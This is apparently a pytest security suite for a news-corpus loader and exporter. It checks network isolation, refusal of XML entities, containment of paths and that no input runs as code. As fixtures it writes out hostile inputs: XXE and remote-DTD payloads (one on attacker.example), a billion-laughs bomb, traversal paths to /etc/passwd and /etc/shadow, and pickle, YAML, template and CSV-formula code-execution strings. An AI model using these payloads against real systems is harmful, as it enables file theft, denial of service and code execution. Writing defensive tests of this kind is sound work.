"""Safety (issue 8): opening an article never touches the network, XML entities are refused,
paths inside a corpus never lead outside the chosen folder, and nothing in a corpus runs as code."""

from __future__ import annotations

import json
import os
import re
import socket
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from model.loaders import load_paths

ROOT = Path(__file__).resolve().parents[1]

REMOTE_PAGE = """<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://dtd.example/xhtml1-strict.dtd">
<html><head>
<base href="http://base.example/">
<title>Factory opens in Ohio</title>
<meta http-equiv="refresh" content="0; url=http://refresh.example/">
<link rel="stylesheet" href="http://css.example/site.css">
<link rel="preload" href="//preload.example/font.woff2">
<style>@import url("http://import.example/more.css"); body { background: url(http://bg.example/x.png); }</style>
<script src="https://scripts.example/tracker.js"></script>
<script>fetch("http://fetch.example/beacon"); new Image().src = "http://pixel.example/p.gif";</script>
<?xml-stylesheet href="http://xsl.example/s.xsl"?>
</head><body>
<iframe src="https://frames.example/embed"></iframe>
<img src="http://images.example/photo.jpg" srcset="http://images.example/2x.jpg 2x">
<picture><source srcset="http://images.example/a.webp"></picture>
<video poster="http://video.example/poster.jpg"><source src="http://video.example/v.mp4"></video>
<object data="http://object.example/o.swf"></object><embed src="http://embed.example/e.swf">
<svg><image href="http://svg.example/i.png"/><use href="http://svg.example/sprite.svg#a"/></svg>
<article><h1>Factory opens in Ohio</h1>
<p style="background-image: url('http://inline.example/bg.png')">Acme Corp opened a factory in Ohio on March 3, 2020.
The company said it would hire 500 workers by the end of next year.</p></article>
</body></html>
"""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Every way out to the network fails the test (and is recorded, should a library swallow it)."""
    attempts: list[str] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(repr(args)[:200])
        raise AssertionError(f"network access while reading an article: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    yield attempts
    assert attempts == []


def test_opening_and_extracting_html_full_of_remote_references_never_touches_the_network(
    tmp_path: Path, nlp, no_network: list[str]
) -> None:
    from model.nlp.pipeline import extract

    page = tmp_path / "remote.html"
    page.write_text(REMOTE_PAGE, encoding="utf-8")
    loaded = load_paths([page])
    assert loaded.failures == []
    (article,) = loaded.articles
    assert "Acme Corp opened a factory in Ohio" in article.text
    # Reduced to text: no markup, no script, no URL of a remote resource survives.
    assert "<" not in article.text and "fetch(" not in article.text and "http" not in article.text
    result = extract(loaded.articles, nlp)
    assert "2020-03-03" in {e.date.value for e in result.events}


def test_the_app_shows_articles_as_plain_text(qtbot) -> None:
    """The article view is a plain-text widget: nothing in an article is rendered as HTML
    (which could load remote images)."""
    from PySide6.QtWidgets import QPlainTextEdit

    from gui.panels.article_view import ArticleView

    view = ArticleView()
    qtbot.addWidget(view)
    assert isinstance(view, QPlainTextEdit)


XXE = """<?xml version="1.0"?>
<!DOCTYPE TimeML [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<TimeML><DCT><TIMEX3 tid="t0" type="DATE" value="2021-11-12"/></DCT><TEXT>Leak: &secret;</TEXT></TimeML>
"""
REMOTE_XXE = """<?xml version="1.0"?>
<!DOCTYPE TimeML [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<TimeML><TEXT>The board met on Monday.</TEXT></TimeML>
"""
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
    + "]>\n<TimeML><TEXT>&lol9;</TEXT></TimeML>\n"
)
REFUSED = "refused: the XML declares entities or external references"


@pytest.mark.parametrize("content", [XXE, REMOTE_XXE, BILLION_LAUGHS], ids=["file-entity", "remote-dtd", "billion-laughs"])
def test_xml_entities_in_timeml_are_refused_with_a_clear_message(tmp_path: Path, no_network, content: str) -> None:
    bad = tmp_path / "evil.tml"
    bad.write_text(content, encoding="utf-8")
    good = tmp_path / "good.tml"
    good.write_text("<TimeML><TEXT>The board met on Monday.</TEXT></TimeML>", encoding="utf-8")
    result = load_paths([bad, good])
    assert [str(e) for e in result.errors] == [f"{bad}: {REFUSED}"]
    assert [a.text for a in result.articles] == ["The board met on Monday."]


def test_entities_in_html_are_neither_expanded_nor_fetched(tmp_path: Path, no_network) -> None:
    page = tmp_path / "evil.html"
    page.write_text(
        BILLION_LAUGHS.replace("TimeML", "html").replace("TEXT", "body").replace("lolz", "html")
        + "<p>The board met on Monday.</p>"
        + XXE.split("\n", 1)[1].replace("TimeML", "html"),
        encoding="utf-8",
    )
    result = load_paths([page])
    text = " ".join(a.text for a in result.articles)
    assert "lollol" not in text and "root:" not in text
    assert all("internal error" not in str(e) for e in result.errors)


def test_the_cli_refuses_entities_in_one_line(tmp_path: Path) -> None:
    import os
    import subprocess

    bad = tmp_path / "laughs.tml"
    bad.write_text(BILLION_LAUGHS, encoding="utf-8")
    proc = subprocess.run(
        [sys.executable, str(ROOT / "main.py"), "tag", str(bad)],
        capture_output=True, text=True, timeout=300, env=dict(os.environ, QT_QPA_PLATFORM="offscreen"),
    )
    assert proc.returncode != 0
    assert f"chronicle: {bad}: {REFUSED}" in proc.stderr.splitlines()
    assert "Traceback" not in proc.stderr


# --- paths inside corpora -------------------------------------------------------------------
HOSTILE_FIELDS = {
    "path": "../../../../outside/escaped.txt",
    "file": "/etc/passwd",
    "id": "../../escaped",
    "url": "file:///etc/passwd",
    "source": "../../escaped-source",
    "media": {"url": "../../../etc/passwd", "caption": "x"},
    "image": "/etc/shadow",
}


@pytest.fixture
def opened_files() -> Iterator[list[tuple[str, str]]]:
    """Every file the process opens while the test body runs (path, mode), through an audit hook."""
    recorded: list[tuple[str, str]] = []
    state = {"on": True}

    def hook(event: str, args: tuple) -> None:
        if state["on"] and event == "open" and args and isinstance(args[0], (str, bytes, Path)):
            path = args[0].decode() if isinstance(args[0], bytes) else str(args[0])
            flags = args[2] if len(args) > 2 and isinstance(args[2], int) else 0
            writes = flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | os.O_TRUNC)
            recorded.append((path, "w" if writes else "r"))

    sys.addaudithook(hook)  # hooks cannot be removed: switched off after the test instead
    yield recorded
    state["on"] = False


def test_paths_in_a_corpus_never_lead_outside_the_chosen_folder(tmp_path: Path, nlp, opened_files) -> None:
    from model.exporters import FORMATS, write_data
    from model.nlp.pipeline import extract

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    records = [
        {**HOSTILE_FIELDS, "title": "../../escaped-title", "text": "Acme opened a factory in Ohio on March 3, 2020."},
        {**HOSTILE_FIELDS, "title": "/etc/passwd", "text": "The mayor resigned on May 5, 2019."},
    ]
    (corpus / "hostile.json").write_text(json.dumps(records), encoding="utf-8")
    timeline = {
        "title": {"text": {"headline": "../../escaped-timeline"}},
        "events": [{"start_date": {"year": "2020", "month": "3", "day": "3"},
                    "media": {"url": "file:///etc/passwd"}, "text": {"headline": "../../x", "text": "Opened."}}],
    }
    (corpus / "timeline.json").write_text(json.dumps(timeline), encoding="utf-8")

    opened_files.clear()  # the corpus written above is not what is checked
    loaded = load_paths([corpus])
    assert loaded.failures == []
    for article in loaded.articles:
        # An article's path is the file it was read from, never a path named inside the corpus.
        assert Path(article.path).parent == corpus
        assert "/" not in article.id and ".." not in article.id
    result = extract(loaded.articles, nlp)

    out = tmp_path / "out"
    out.mkdir()
    suffixes = {"json": ".json", "csv": ".csv", "xlsx": ".xlsx", "timelinejs": ".json", "ics": ".ics"}
    for fmt in FORMATS:
        target = out / f"export-{fmt}{suffixes.get(fmt, '')}" if fmt != "tml" else out / "tml-folder"
        write_data(result, fmt, target)

    written = {Path(p).resolve() for p, mode in opened_files if mode == "w"}
    # Writes go to the chosen folder; libraries' scratch files (openpyxl) to the system temp folder.
    scratch = Path(tempfile.gettempdir()).resolve()
    outside = [p for p in written if out.resolve() not in p.parents and scratch not in (p, p.parent)]
    assert written and outside == []
    # A record's own id names its TimeML file, made harmless ("../../escaped" -> "____escaped.tml"):
    # a name, never a path.
    assert not [p for p in written if ".." in p.name or p.name.startswith("/")]
    read = [p for p, _mode in opened_files if out.resolve() not in Path(p).resolve().parents]  # not our own output
    assert not [p for p in read if "passwd" in p or "shadow" in p or "escaped" in p]
    assert not (tmp_path / "escaped").exists() and not (tmp_path.parent / "escaped").exists()
    assert all(p.parent in (out, out / "tml-folder") for p in out.rglob("*"))


def test_timeml_export_names_from_hostile_article_ids_stay_in_the_folder(tmp_path: Path) -> None:
    from model.core.documents import Article
    from model.core.result import ExtractionResult
    from model.exporters import write_data

    articles = [
        Article(id=ident, path="x.txt", text="Body.")
        for ident in ("../../escaped", "/etc/passwd", "..", ".", "a/../../b", "C:\\evil", "")
    ]
    folder = tmp_path / "deep" / "tml"
    (tmp_path / "deep").mkdir()
    written = write_data(ExtractionResult(articles, []), "tml", folder)
    assert len(written) == len(articles)
    for path in written:
        assert path.resolve().parent == folder.resolve()
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file() and p.parent != folder) == []


# --- nothing evaluated as code --------------------------------------------------------------
CODE_PAYLOADS = [
    "__import__('os').system('touch {marker}')",
    "{{{{ self.__init__.__globals__ }}}}; exec(\"open('{marker}', 'w')\")",
    # What pickle.dumps of os.system('touch <marker>') looks like, as text and base64.
    "cos\nsystem\n(S'touch {marker}'\ntR.",
    "gASVJgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA50b3VjaCB7bWFya2VyfZSFlFKULg==",
    "!!python/object/apply:os.system ['touch {marker}']",
    "=cmd|' /C touch {marker}'!A0",
]


def test_nothing_in_a_corpus_is_evaluated_as_code(tmp_path: Path, nlp) -> None:
    from model.exporters import FORMATS, export_data
    from model.nlp.pipeline import extract

    marker = tmp_path / "PWNED"
    payloads = [p.format(marker=marker) for p in CODE_PAYLOADS]
    records = [
        {"title": payload, "text": f"The board met on March 3, 2020. {payload}", "date": payload,
         "source": payload, "url": payload}
        for payload in payloads
    ]
    corpus = tmp_path / "code.jsonl"
    corpus.write_text("\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8")
    csv_corpus = tmp_path / "code.csv"
    csv_corpus.write_text("title,text,date\n" + "".join(
        f'"{p.replace(chr(34), chr(34) * 2)}","The board met on March 3, 2020. {p.replace(chr(34), chr(34) * 2)}",2020\n'
        for p in payloads
    ), encoding="utf-8")
    pickled = tmp_path / "pickle.json"
    pickled.write_bytes(b"\x80\x04\x95" + b"cos\nsystem\n(S'touch " + str(marker).encode() + b"'\ntR.")

    events: list[tuple[str, tuple]] = []
    state = {"on": True}

    def hook(event: str, args: tuple) -> None:
        if state["on"] and event in ("pickle.find_class", "os.system", "subprocess.Popen", "os.exec", "os.posix_spawn"):
            events.append((event, args))
        if state["on"] and event == "compile" and args and isinstance(args[0], (str, bytes)):
            source = args[0].decode("utf-8", "replace") if isinstance(args[0], bytes) else args[0]
            if str(marker) in source:
                events.append((event, (source[:80],)))

    sys.addaudithook(hook)
    try:
        loaded = load_paths([corpus, csv_corpus, pickled])
        result = extract(loaded.articles, nlp)
        for fmt in FORMATS:
            export_data(result, fmt)
    finally:
        state["on"] = False
    assert events == []
    assert not marker.exists()
    assert len(loaded.articles) == 2 * len(payloads)
    # The payloads are kept as the plain text they are.
    assert {a.title for a in loaded.articles} >= {" ".join(p.split()) for p in payloads[:2]}
    assert [str(e) for e in loaded.failures] == [f"{pickled}: not a text file (binary data or an unknown encoding)"]


_FORBIDDEN = re.compile(r"\b(?:eval|exec)\s*\(|\bpickle\.loads?\b|\bmarshal\.loads?\b|\byaml\.(?:unsafe_)?load\b|\bshelve\b")


def test_no_loader_or_exporter_evaluates_or_unpickles_anything() -> None:
    sources = [*sorted((ROOT / "model" / "loaders").glob("*.py")), *sorted((ROOT / "model" / "exporters").glob("*.py"))]
    assert sources
    offending = [
        f"{path.relative_to(ROOT)}:{n}: {line.strip()}"
        for path in sources
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if _FORBIDDEN.search(line) and not line.lstrip().startswith("#")
    ]
    assert offending == []
